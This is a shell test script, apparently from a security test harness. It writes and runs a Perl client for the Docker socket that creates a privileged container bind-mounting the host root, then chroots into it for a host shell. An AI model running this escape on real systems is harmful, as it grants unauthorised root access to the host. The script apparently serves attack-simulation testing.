#!/bin/sh
. /opt/case/case.sh

cat >/tmp/c.pl <<'END'
use IO::Socket::UNIX;
sub ask {
    my ($path, $body) = @_;
    my $s = IO::Socket::UNIX->new(Peer => "/run/docker.sock") or die;
    printf $s "POST %s HTTP/1.0\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", $path, length $body, $body;
    local $/; my $answer = <$s>; return $answer;
}
print ask("/v1.41/containers/create", '{"Image": "alpine", "Cmd": ["chroot", "/m", "sh"], "HostConfig": {"Binds": ["/:/m"], "Privileged": true, "PidMode": "host"}}');
print ask("/v1.41/containers/0123456789ab/start", "{}");
END
perl /tmp/c.pl | grep -q 0123456789ab
took_place
